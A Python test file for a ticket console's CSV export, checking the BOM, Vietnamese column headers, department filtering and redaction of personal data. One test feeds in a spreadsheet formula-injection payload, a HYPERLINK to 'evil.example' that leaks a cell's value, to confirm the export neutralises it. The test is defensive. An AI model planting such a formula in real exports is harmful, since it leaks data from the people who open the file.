"""CSV export of the filtered tickets."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from console_testkit import create_ticket, token
from fastapi.testclient import TestClient


def rows_of(content: bytes) -> list[list[str]]:
    """Parse an export, checking the UTF-8 byte-order mark first."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_export_has_a_bom_a_vietnamese_header_and_the_filtered_rows(
    client_as: Callable[[str], TestClient], api_client: TestClient, service_headers: dict[str, str]
) -> None:
    marker = token()
    codes = [create_ticket(api_client, service_headers, marker) for _ in range(2)]
    create_ticket(api_client, service_headers, marker, category="traffic")
    response = client_as("dispatcher").get(
        "/api/v1/console/tickets.csv",
        params={"q": marker, "category": "environment", "sort": "code", "order": "asc"},
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    header, *rows = rows_of(response.content)
    assert header[:4] == ["Mã phản ánh", "Ngày tiếp nhận", "Trạng thái", "Lĩnh vực"]
    assert [row[0] for row in rows] == codes
    first = dict(zip(header, rows[0], strict=True))
    assert first["Trạng thái"] == "Đã chuyển đơn vị xử lý" and first["Lĩnh vực"] == "Vệ sinh môi trường"
    assert first["Địa bàn"] == "Phường Hội An Đông" and first["Quá hạn"] == "Không"
    assert marker in first["Nội dung"]
    assert "Nguyễn Văn Bí Mật" not in response.text and "0905 123 456" not in response.text


def test_officers_export_only_their_department(
    client_as: Callable[[str], TestClient], api_client: TestClient, service_headers: dict[str, str]
) -> None:
    marker = token()
    mine = create_ticket(api_client, service_headers, marker)
    create_ticket(api_client, service_headers, marker, area="Tân Thạnh")
    response = client_as("officer").get("/api/v1/console/tickets.csv", params={"q": marker})
    assert [row[0] for row in rows_of(response.content)[1:]] == [mine]


def test_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
    client_as: Callable[[str], TestClient], api_client: TestClient, service_headers: dict[str, str]
) -> None:
    marker = token()
    formula = f'=HYPERLINK("http://evil.example/?leak="&A1,"Xem ảnh {marker}")'
    create_ticket(api_client, service_headers, marker, description=formula, location_text="@SUM(1+1)")
    response = client_as("dispatcher").get("/api/v1/console/tickets.csv", params={"q": marker})
    header, row = rows_of(response.content)
    cells = dict(zip(header, row, strict=True))
    assert cells["Nội dung"] == "'" + formula and cells["Địa điểm"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
